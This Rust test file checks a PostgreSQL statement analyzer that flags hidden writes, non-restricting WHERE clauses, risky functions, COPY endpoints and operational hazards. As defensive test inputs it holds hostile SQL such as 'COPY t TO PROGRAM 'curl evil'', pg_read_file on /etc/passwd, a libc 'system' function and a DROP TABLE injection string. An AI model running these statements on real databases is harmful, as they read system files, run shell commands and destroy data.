//! Table-driven analysis cases, and the PostgreSQL regression suite as a corpus.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use weir_analyze::postgres::analyze_sql;
use weir_analyze::{CopyEndpoint, StatementFacts, StatementKind as K};

fn one(sql: &str) -> StatementFacts {
    let mut v = analyze_sql(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(v.len(), 1, "{sql}");
    v.remove(0)
}

fn set(items: &[&str]) -> std::collections::BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn kinds() {
    for (sql, kind) in [
        ("SELECT 1", K::Select),
        ("select * from t", K::Select),
        ("INSERT INTO t VALUES (1)", K::Insert),
        ("UPDATE t SET a = 1 WHERE id = 2", K::Update),
        ("DELETE FROM t WHERE id = 2", K::Delete),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            K::Merge,
        ),
        ("CREATE TABLE x (id int)", K::Ddl),
        ("ALTER TABLE x ADD COLUMN y int", K::Ddl),
        ("CREATE INDEX ON x (id)", K::Ddl),
        ("DROP TABLE x", K::Drop),
        ("DROP DATABASE shop", K::Drop),
        ("TRUNCATE x", K::Truncate),
        ("GRANT SELECT ON x TO bob", K::Privilege),
        ("CREATE ROLE eve SUPERUSER", K::Privilege),
        ("COPY x TO STDOUT", K::Copy),
        ("BEGIN", K::Transaction),
        ("SET search_path = public", K::Set),
        ("SHOW search_path", K::Show),
        ("EXPLAIN SELECT 1", K::Explain),
        ("PREPARE p AS SELECT 1", K::Prepare),
        ("EXECUTE p", K::Execute),
        ("DEALLOCATE p", K::Deallocate),
        ("DECLARE c CURSOR FOR SELECT 1", K::Cursor),
        ("FETCH 10 FROM c", K::Cursor),
        ("LISTEN ch", K::Notify),
        ("DO $$ BEGIN END $$", K::Do),
        ("CALL p()", K::Call),
        ("LOCK TABLE x", K::Lock),
        ("VACUUM x", K::Maintenance),
        ("DISCARD ALL", K::Discard),
        ("LOAD 'plpgsql'", K::Load),
        ("ALTER SYSTEM SET work_mem = '1GB'", K::AlterSystem),
        ("CREATE TABLE y AS SELECT * FROM x", K::Ddl),
        ("SELECT * INTO y FROM x", K::Ddl),
        ("", K::Empty),
        ("  ;  ", K::Empty),
    ] {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

#[test]
fn tables_read_and_written() {
    let f = one("UPDATE app.orders o SET total = 0 FROM customers c WHERE o.customer_id = c.id AND c.email IN (SELECT email FROM blocked)");
    assert_eq!(f.tables_written, set(&["app.orders"]));
    assert_eq!(f.tables_read, set(&["blocked", "customers"]));
    let f = one("INSERT INTO audit_copy SELECT * FROM public.audit");
    assert_eq!(f.tables_written, set(&["audit_copy"]));
    assert_eq!(f.tables_read, set(&["public.audit"]));
    let f = one("SELECT a.x FROM a JOIN b ON a.id = b.id UNION SELECT y FROM c");
    assert_eq!(f.tables_read, set(&["a", "b", "c"]));
    assert!(!f.writes);
    let f = one("DROP TABLE public.customers, orders");
    assert_eq!(f.tables_written, set(&["public.customers", "orders"]));
    let f = one("TRUNCATE a, b");
    assert_eq!(f.tables_written, set(&["a", "b"]));
}

#[test]
fn writes_hidden_in_harmless_looking_statements() {
    // A data-modifying CTE under a SELECT.
    let f = one("WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone");
    assert_eq!(f.kind, K::Select);
    assert!(f.writes && f.nested_write);
    assert_eq!(f.tables_written, set(&["customers"]));
    // EXPLAIN ANALYZE executes: it is the statement it explains.
    let f = one("EXPLAIN ANALYZE DELETE FROM customers");
    assert_eq!(f.kind, K::Delete);
    assert!(f.explain_analyze && f.writes && !f.has_where);
    // Plain EXPLAIN does not run it.
    let f = one("EXPLAIN DELETE FROM customers");
    assert_eq!(f.kind, K::Explain);
    assert!(!f.writes);
    // PREPARE carries its statement.
    let f = one("PREPARE wipe AS DELETE FROM customers");
    assert_eq!(f.inner.as_ref().unwrap().kind, K::Delete);
    assert_eq!(f.name.as_deref(), Some("wipe"));
    // DO and CALL: effect unknown.
    assert!(one("DO $$ BEGIN DELETE FROM customers; END $$").unknown_effect);
    assert!(one("CALL cleanup()").unknown_effect);
    let f = one("DO LANGUAGE plpython3u $$ import os $$");
    assert!(f.untrusted_language);
    let f = one("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'");
    assert!(f.untrusted_language);
    // Every statement of a multi-statement string is seen.
    let v = analyze_sql("SELECT 1; DROP TABLE customers; SELECT 2").unwrap();
    assert_eq!(
        v.iter().map(|f| f.kind).collect::<Vec<_>>(),
        vec![K::Select, K::Drop, K::Select]
    );
}

#[test]
fn where_clauses_that_do_not_restrict() {
    for (sql, has, effective) in [
        ("DELETE FROM t", false, false),
        ("DELETE FROM t WHERE true", true, false),
        ("DELETE FROM t WHERE 1 = 1", true, false),
        ("DELETE FROM t WHERE 'a' = 'a'", true, false),
        ("DELETE FROM t WHERE id = id", true, false),
        ("DELETE FROM t WHERE t.id = t.id", true, false),
        (
            "DELETE FROM t WHERE id IS NOT DISTINCT FROM id",
            true,
            false,
        ),
        ("DELETE FROM t WHERE id = 5 OR 1 = 1", true, false),
        ("DELETE FROM t WHERE 1 = 1 AND true", true, false),
        ("DELETE FROM t WHERE $1 = $1", true, false),
        ("DELETE FROM t WHERE EXISTS (SELECT 1)", true, false),
        ("DELETE FROM t WHERE id = 5", true, true),
        ("DELETE FROM t WHERE id = $1", true, true),
        ("DELETE FROM t WHERE id = 5 AND 1 = 1", true, true),
        ("UPDATE t SET a = 1 WHERE a <> a", true, true),
        ("UPDATE t SET a = 1", false, false),
        (
            "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM s)",
            true,
            true,
        ),
    ] {
        let f = one(sql);
        assert_eq!((f.has_where, f.where_effective), (has, effective), "{sql}");
    }
}

#[test]
fn functions_copy_and_settings() {
    let f = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM t");
    assert_eq!(f.functions, set(&["lower", "pg_read_file"]));
    let f = one("SELECT * FROM t WHERE id = (SELECT pg_catalog.lo_export(1, '/tmp/x'))");
    assert!(f.functions.contains("pg_catalog.lo_export"));
    let f = one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)");
    assert!(f.functions.contains("dblink"), "{:?}", f.functions);
    let f = one("COPY t TO PROGRAM 'curl evil'");
    assert_eq!(
        f.copy.unwrap().endpoint,
        CopyEndpoint::Program("curl evil".into())
    );
    let f = one("COPY t FROM '/etc/passwd'");
    let c = f.copy.clone().unwrap();
    assert!(c.from);
    assert_eq!(c.endpoint, CopyEndpoint::ServerFile("/etc/passwd".into()));
    assert_eq!(f.tables_written, set(&["t"]));
    let f = one("COPY (SELECT * FROM customers) TO STDOUT");
    assert_eq!(f.copy.unwrap().endpoint, CopyEndpoint::Client);
    assert_eq!(f.tables_read, set(&["customers"]));
    assert_eq!(one("SET ROLE admin").setting.as_deref(), Some("role"));
    assert_eq!(
        one("SET SESSION AUTHORIZATION admin").setting.as_deref(),
        Some("session_authorization")
    );
    assert_eq!(one("COMMIT").transaction, Some("commit"));
    assert!(one("SELECT * FROM t LIMIT 10").has_limit);
}

#[test]
fn parse_failures_and_bad_input_are_errors() {
    assert!(analyze_sql("SELEC 1").is_err());
    assert!(analyze_sql("SELECT 'unterminated").is_err());
    assert!(analyze_sql("SELECT 1\0; DROP TABLE x").is_err());
}

/// The regression suite's statements: never a panic, and the share that classifies to a known
/// kind (goal: 99.5% of the statements that parse).
#[test]
fn regression_corpus_classifies() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus/postgres-regress");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        eprintln!("corpus not found at {}: skipped", dir.display());
        return;
    };
    let (mut parsed, mut known, mut failed) = (0usize, 0usize, 0usize);
    let mut unknown: std::collections::BTreeMap<String, usize> = Default::default();
    for entry in entries {
        let path = entry.unwrap().path();
        let Ok(text) = std::fs::read_to_string(&path) else {
            continue;
        };
        // psql meta-commands are not SQL.
        let sql: String = text
            .lines()
            .filter(|l| !l.trim_start().starts_with('\\'))
            .collect::<Vec<_>>()
            .join("\n");
        let Ok(stmts) = pg_query::split_with_scanner(&sql) else {
            continue;
        };
        for stmt in stmts {
            match analyze_sql(stmt) {
                Ok(facts) => {
                    for f in facts {
                        parsed += 1;
                        if f.kind == K::Unknown || f.unknown_nested {
                            *unknown.entry(f.node.clone()).or_default() += 1;
                        } else {
                            known += 1;
                        }
                    }
                }
                Err(_) => failed += 1,
            }
        }
    }
    let share = known as f64 / parsed.max(1) as f64 * 100.0;
    eprintln!("regression corpus: {parsed} statements parsed, {known} classified ({share:.2}%), {failed} rejected by the parser; unknown: {unknown:?}");
    assert!(parsed > 10_000, "{parsed}");
    assert!(
        share >= 99.5,
        "{share:.2}% classified; unknown: {unknown:?}"
    );
}

#[test]
fn cache_never_hands_one_statement_another_ones_facts() {
    let a = weir_analyze::Analyzer::new();
    let facts = |sql: &str| a.analyze(sql.as_bytes()).unwrap().statements.to_vec();
    // Warm the cache with restricted deletes, then ask for look-alikes that are not.
    for _ in 0..3 {
        assert!(facts("DELETE FROM t WHERE id = 1")[0].where_effective);
        assert!(facts("DELETE FROM t WHERE id = 2")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE 1 = 1")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE 2 = 2")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE id = id")[0].where_effective);
        assert_eq!(facts("SELECT * FROM t WHERE a = 'x'")[0].kind, K::Select);
        assert_eq!(
            facts("SELECT * FROM t WHERE a = 'x'; DROP TABLE t")[1].kind,
            K::Drop
        );
        assert_eq!(
            facts("SELECT * FROM t WHERE a = 'x''; DROP TABLE t; --'").len(),
            1
        );
        assert!(facts("SELECT pg_read_file('/etc/passwd')")[0]
            .functions
            .contains("pg_read_file"));
        assert!(facts("SELECT lower('/etc/passwd')")[0]
            .functions
            .contains("lower"));
        // Facts that depend on a value are never shared by look-alikes.
        for (sql, setting) in [
            ("SELECT set_config($1, $2, false)", "*"),
            ("SELECT set_config('role', 'x', false)", "role"),
            ("SELECT set_config('app.tenant', '42', false)", "app.tenant"),
        ] {
            assert_eq!(facts(sql)[0].setting.as_deref(), Some(setting), "{sql}");
        }
    }
    // The same shape with other constants is a cache hit sharing the facts.
    let x = a
        .analyze(b"SELECT abalance FROM pgbench_accounts WHERE aid = 1")
        .unwrap();
    let y = a
        .analyze(b"SELECT abalance FROM pgbench_accounts WHERE aid = 99")
        .unwrap();
    assert!(std::sync::Arc::ptr_eq(&x.statements, &y.statements));
    assert_eq!(
        &*y.sql,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 99"
    );
}

fn columns(f: &StatementFacts) -> std::collections::BTreeSet<String> {
    f.columns.iter().map(|c| c.to_string()).collect()
}

#[test]
fn columns_are_attributed_to_their_tables() {
    let f = one("SELECT c.email, name FROM customers c WHERE c.id = $1");
    assert_eq!(
        columns(&f),
        set(&["customers.email", "customers.id", "customers.name"])
    );
    // Two tables: a qualifier or alias decides; an unqualified column stays unattributed.
    let f = one(
        "SELECT o.total, customers.email, note FROM orders o JOIN public.customers ON o.customer_id = customers.id",
    );
    assert_eq!(
        columns(&f),
        set(&[
            "note",
            "orders.customer_id",
            "orders.total",
            "public.customers.email",
            "public.customers.id",
        ])
    );
    assert_eq!(
        columns(&one("SELECT * FROM customers")),
        set(&["customers.*"])
    );
    assert_eq!(
        columns(&one("SELECT x.* FROM (SELECT 1) x")),
        set(&["*"]),
        "a subquery's columns belong to no table"
    );
    assert_eq!(
        columns(&one(
            "SELECT shop.public.customers.ssn FROM public.customers"
        )),
        set(&["public.customers.ssn"])
    );
    // Written columns: INSERT's list, UPDATE's SET, also inside a CTE.
    assert_eq!(
        columns(&one("INSERT INTO customers (email, phone) VALUES ($1, $2)")),
        set(&["customers.email", "customers.phone"])
    );
    let f = one(
        "WITH u AS (UPDATE customers SET ssn = NULL WHERE id = 1 RETURNING id) SELECT * FROM u",
    );
    assert!(columns(&f).contains("customers.ssn"), "{:?}", f.columns);
    // One alias for two tables in different scopes: ambiguous, so not attributed.
    let f = one("SELECT t.a FROM x t WHERE EXISTS (SELECT t.b FROM y t)");
    assert_eq!(columns(&f), set(&["a", "b"]));
}

#[test]
fn function_calls_are_classified() {
    let f = one("SELECT lower(name), pg_catalog.upper(name), count(*) FROM t");
    assert!(f.user_functions.is_empty(), "{:?}", f.user_functions);
    assert!(!f.writes && !f.unknown_effect);
    // Not built-ins: their effect cannot be seen.
    let f = one("SELECT app.transfer(1, 2), my_fn() FROM t");
    assert_eq!(f.user_functions, set(&["app.transfer", "my_fn"]));
    let f = one("SELECT public.lower(name) FROM t");
    assert_eq!(f.user_functions, set(&["public.lower"]));
    // Built-ins that change state make a SELECT a write.
    for sql in [
        "SELECT nextval('orders_id_seq')",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT lo_unlink(16400)",
        "SELECT pg_reload_conf()",
    ] {
        assert!(one(sql).writes, "{sql}");
    }
    // Built-ins that run SQL given as text: unknown effect.
    for sql in [
        "SELECT query_to_xml('delete from t returning *', true, false, '')",
        "SELECT table_to_xml('customers', true, false, '')",
        "SELECT ts_stat('select v from t')",
    ] {
        assert!(one(sql).unknown_effect, "{sql}");
    }
    // set_config names its setting; a parameter could be any setting.
    let f = one("SELECT set_config('role', 'postgres', false)");
    assert_eq!(f.setting.as_deref(), Some("role"));
    assert!(f.writes);
    assert_eq!(
        one("SELECT set_config($1, $2, false)").setting.as_deref(),
        Some("*")
    );
    assert_eq!(one("RESET ALL").setting.as_deref(), Some("all"));
}

mod scope {
    use super::*;
    use weir_analyze::{Analyzer, PathChange, Scope};

    fn tables(scope: &Scope, sql: &str) -> Vec<String> {
        let a = Analyzer::new().analyze(sql.as_bytes()).unwrap();
        let r = scope.resolve(&a.statements);
        r[0].tables_read
            .iter()
            .chain(r[0].tables_written.iter())
            .cloned()
            .collect()
    }

    fn run(scope: &mut Scope, sql: &str) {
        let a = Analyzer::new().analyze(sql.as_bytes()).unwrap();
        scope.observe(&a);
    }

    #[test]
    fn tables_resolve_against_the_search_path() {
        let mut s = Scope::new("app", None);
        assert_eq!(tables(&s, "SELECT * FROM customers"), ["public.customers"]);
        assert_eq!(tables(&s, "SELECT * FROM sales.orders"), ["sales.orders"]);
        assert_eq!(
            tables(&s, "SELECT * FROM pg_class"),
            ["pg_catalog.pg_class"]
        );
        run(&mut s, "SET search_path = sales, public");
        assert_eq!(tables(&s, "SELECT * FROM customers"), ["sales.customers"]);
        // Both schemas the session has used stay candidates for sensitivity lookups.
        assert_eq!(
            s.candidates("customers").unwrap(),
            [
                "app.customers",
                "public.customers",
                "sales.customers",
                "pg_catalog.customers"
            ]
        );
        run(&mut s, "RESET search_path");
        assert_eq!(tables(&s, "SELECT * FROM customers"), ["public.customers"]);
        // A change Weir cannot see: any schema could hold the table.
        run(&mut s, "SELECT set_config('search_path', 'x', false)");
        assert_eq!(s.candidates("customers"), None);
        // The client's startup parameter is the starting point.
        let s = Scope::new("app", Some("\"Billing\", public"));
        assert_eq!(tables(&s, "SELECT * FROM invoices"), ["Billing.invoices"]);
    }

    #[test]
    fn search_path_changes_are_read_from_the_statement() {
        use weir_analyze::postgres::search_path_change;
        assert_eq!(
            search_path_change("SELECT 1; SET search_path TO a, \"B\"", 1),
            Some(PathChange::Set(vec!["a".into(), "B".into()]))
        );
        assert_eq!(
            search_path_change("SET LOCAL search_path = x", 0),
            Some(PathChange::Local(vec!["x".into()]))
        );
        assert_eq!(
            search_path_change("SET search_path TO DEFAULT", 0),
            Some(PathChange::Reset)
        );
        assert_eq!(search_path_change("RESET ALL", 0), Some(PathChange::Reset));
        assert_eq!(search_path_change("SET work_mem = '1MB'", 0), None);
    }

    #[test]
    fn execute_runs_what_the_session_prepared() {
        let mut s = Scope::new("app", None);
        let exec = || {
            Analyzer::new()
                .analyze(b"EXECUTE wipe")
                .unwrap()
                .statements
                .to_vec()
        };
        // Not prepared (or not seen): unknown effect.
        let r = s.resolve(&exec());
        assert_eq!(r[0].kind, K::Execute);
        assert!(r[0].unknown_effect);
        run(&mut s, "PREPARE wipe AS DELETE FROM orders");
        let r = s.resolve(&exec());
        assert_eq!(r[0].kind, K::Delete);
        assert!(r[0].unrestricted_write && !r[0].unknown_effect);
        assert_eq!(r[0].tables_written, set(&["public.orders"]));
        assert_eq!(r[0].name.as_deref(), Some("wipe"));
        run(&mut s, "DEALLOCATE wipe");
        assert_eq!(s.resolve(&exec())[0].kind, K::Execute);
        run(&mut s, "PREPARE wipe AS DELETE FROM orders");
        run(&mut s, "DISCARD ALL");
        assert_eq!(s.resolve(&exec())[0].kind, K::Execute);
        // In one string, the request is decided in the scope it makes.
        let a = Analyzer::new()
            .analyze(b"PREPARE p AS UPDATE orders SET total = 0; EXECUTE p")
            .unwrap();
        let next = s.after(&a).unwrap();
        assert_eq!(next.resolve(&a.statements)[1].kind, K::Update);
    }
}

#[test]
fn each_result_column_knows_the_columns_it_reads() {
    let outputs = |sql: &str| -> Option<Vec<Vec<String>>> {
        one(sql).outputs.map(|o| {
            o.iter()
                .map(|refs| refs.iter().map(|c| c.to_string()).collect())
                .collect()
        })
    };
    assert_eq!(
        outputs("SELECT c.id, upper(c.email) AS e, count(*), 1 FROM customers c GROUP BY 1, 2"),
        Some(vec![
            vec!["customers.id".to_string()],
            vec!["customers.email".to_string()],
            vec![],
            vec![],
        ])
    );
    // A scalar subquery's columns count for the column it makes.
    assert_eq!(
        outputs("SELECT o.id, (SELECT max(email) FROM customers) FROM orders o"),
        Some(vec![
            vec!["orders.id".to_string()],
            vec!["email".to_string()]
        ])
    );
    // A whole-row reference is a reference to the alias.
    assert_eq!(
        outputs("SELECT row_to_json(c) FROM customers c"),
        Some(vec![vec!["customers.c".to_string()]])
    );
    // Where the result's columns are not the select list's entries: unknown.
    assert_eq!(outputs("SELECT * FROM customers"), None);
    assert_eq!(outputs("SELECT c.* FROM customers c"), None);
    assert_eq!(outputs("SELECT a FROM t UNION SELECT b FROM u"), None);
    assert_eq!(outputs("UPDATE t SET a = 1 WHERE id = 2"), None);
}

#[test]
fn create_table_as_and_select_into_write_their_table() {
    let f = one("CREATE TABLE copy AS SELECT email FROM customers");
    assert_eq!(f.tables_written, set(&["copy"]));
    assert_eq!(f.tables_read, set(&["customers"]));
    let f = one("SELECT email INTO copy2 FROM customers");
    assert_eq!(f.tables_written, set(&["copy2"]));
    assert!(f.writes, "SELECT INTO is a write");
    assert_eq!(f.tables_read, set(&["customers"]));
}

#[test]
fn copy_out_says_how_its_data_is_written() {
    let f = one(
        "COPY customers (id, email) TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER ';', NULL 'NA')",
    );
    let c = f.copy.unwrap();
    assert_eq!(c.format.kind, weir_analyze::CopyKind::Csv);
    assert!(c.format.header);
    assert_eq!(c.format.delimiter.as_deref(), Some(";"));
    assert_eq!(c.format.null.as_deref(), Some("NA"));
    assert_eq!(c.columns, Some(vec!["id".to_string(), "email".to_string()]));
    assert!(!c.query);
    assert!(
        f.value_dependent,
        "options shape the data: cached by exact text only"
    );
    let f = one("COPY (SELECT id, upper(email) FROM customers) TO STDOUT (FORMAT binary)");
    let c = f.copy.as_ref().unwrap();
    assert_eq!(c.format.kind, weir_analyze::CopyKind::Binary);
    assert!(c.query);
    assert_eq!(
        f.outputs.unwrap()[1]
            .iter()
            .map(|c| c.to_string())
            .collect::<Vec<_>>(),
        ["customers.email"]
    );
    let c = one("COPY t TO STDOUT").copy.unwrap();
    assert_eq!(c.format.kind, weir_analyze::CopyKind::Text);
    assert_eq!(c.columns, None);
}

#[test]
fn leaving_the_lexing_mode_is_refused_and_never_borrowed_from_the_cache() {
    let a = weir_analyze::Analyzer::new();
    for _ in 0..3 {
        for ok in [
            "SET client_encoding = 'LATIN1'",
            "ALTER ROLE r SET client_encoding = 'UTF8'",
            "SELECT set_config('standard_conforming_strings', 'on', false)",
            "SET standard_conforming_strings = on",
        ] {
            assert!(a.analyze(ok.as_bytes()).is_ok(), "{ok}");
        }
        for refused in [
            "SET client_encoding = 'SJIS'",
            "ALTER ROLE r SET client_encoding = 'GBK'",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "SET standard_conforming_strings = off",
            "SELECT set_config('client_encoding', $1, false)",
        ] {
            assert!(
                matches!(
                    a.analyze(refused.as_bytes()),
                    Err(weir_analyze::AnalyzeError::LexingMode(_))
                ),
                "{refused}"
            );
        }
    }
}

#[test]
fn operational_hazards_are_facts() {
    let a = weir_analyze::Analyzer::new();
    let hazards = |sql: &str| -> Vec<&'static str> {
        a.analyze(sql.as_bytes()).unwrap().statements[0]
            .hazards
            .iter()
            .copied()
            .collect()
    };
    assert_eq!(hazards("VACUUM FULL t"), ["exclusive_lock", "rewrite"]);
    assert_eq!(hazards("VACUUM t"), Vec::<&str>::new());
    assert_eq!(
        hazards("LOCK t IN SHARE ROW EXCLUSIVE MODE"),
        ["exclusive_lock"]
    );
    assert_eq!(hazards("LOCK t IN ROW EXCLUSIVE MODE"), Vec::<&str>::new());
    assert_eq!(
        hazards("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
        ["kills_sessions"]
    );
    assert_eq!(
        hazards("SELECT pg_terminate_backend(pg_backend_pid())"),
        Vec::<&str>::new()
    );
    assert_eq!(hazards("PREPARE TRANSACTION 'x'"), ["two_phase"]);
    assert_eq!(hazards("ALTER SEQUENCE s RESTART"), ["sequence_reset"]);
    assert_eq!(hazards("SELECT setval('s', 1)"), ["sequence_reset"]);
    assert_eq!(hazards("CHECKPOINT"), ["server_control"]);
}
